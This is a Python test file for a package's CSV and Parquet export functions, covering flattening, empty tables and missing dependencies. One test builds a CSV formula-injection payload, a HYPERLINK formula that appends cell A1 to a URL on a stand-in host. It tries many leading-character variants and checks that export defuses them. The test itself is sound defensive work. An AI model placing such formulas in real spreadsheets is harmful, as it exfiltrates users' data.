"""CSV and Parquet."""

from __future__ import annotations

import builtins
import csv
import io
from typing import TYPE_CHECKING, Any

import pytest

from reportedly.errors import ExportError
from reportedly.export.tables import defused, write_csv, write_parquet

if TYPE_CHECKING:
    from pathlib import Path

SPAN = {"start": 0, "end": 2, "text": "It"}
ROW = {"id": "a", "n": None, "source": SPAN, "content": [SPAN, SPAN], "reports": ["x", "y"], "why": [{"k": 1}]}


def test_nested_values_become_text_in_csv() -> None:
    out = io.StringIO()
    write_csv(list(ROW), [ROW], out)
    assert out.getvalue().splitlines() == [
        "id,n,source,content,reports,why",
        'a,,It,It ... It,x y,"[{""k"": 1}]"',
    ]


@pytest.mark.parametrize(
    "begins",
    [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\t",
        "\r",
        "\n",
        " =",
        "\u00a0=",
        "\u200b=",
        "\ufeff=",
        "\x00=",
        "＝",
        "＋",
        "－",
        "＠",
        "= ",
    ],
)
def test_no_cell_is_a_formula_unless_asked_for(begins: str) -> None:
    text = f'{begins}HYPERLINK("https://there.example/?"&A1,"open")'
    for formulas, front in ((False, "'"), (True, "")):
        out = io.StringIO(newline="")
        write_csv(["n", "words", "all"], [{"n": -3.5, "words": text, "all": [text, "b"]}], out, formulas=formulas)
        assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1] == [
            "-3.5",
            front + text,
            f"{front}{text} b",
        ]


@pytest.mark.parametrize(
    "value", ["a=b", "a", "", "12", "'=1", -1, 0.5, None, True, "2025-04-28", '{"a": "=1"}', "“-”"]
)
def test_other_cells_stay(value: object) -> None:
    assert defused(value) == value


def test_where_there_are_no_rows_there_is_a_header(tmp_path: Path) -> None:
    out = io.StringIO()
    write_csv(["id", "n"], [], out)
    assert out.getvalue().splitlines() == ["id,n"]
    parquet = pytest.importorskip("pyarrow.parquet")
    write_parquet(["id", "n"], [], tmp_path / "rows.parquet")
    found = parquet.read_table(tmp_path / "rows.parquet")
    assert (found.column_names, found.num_rows) == (["id", "n"], 0)


def test_parquet_keeps_them(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    write_parquet(list(ROW), [ROW], tmp_path / "rows.parquet")
    assert parquet.read_table(tmp_path / "rows.parquet").to_pylist() == [ROW]


def test_what_is_missing_for_parquet_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    known = builtins.__import__

    def without(name: str, *given: Any, **named: Any) -> Any:
        if name.startswith("pyarrow"):
            raise ImportError(name)
        return known(name, *given, **named)

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(ExportError, match=r"reportedly\[parquet\]"):
        write_parquet(list(ROW), [ROW], tmp_path / "rows.parquet")
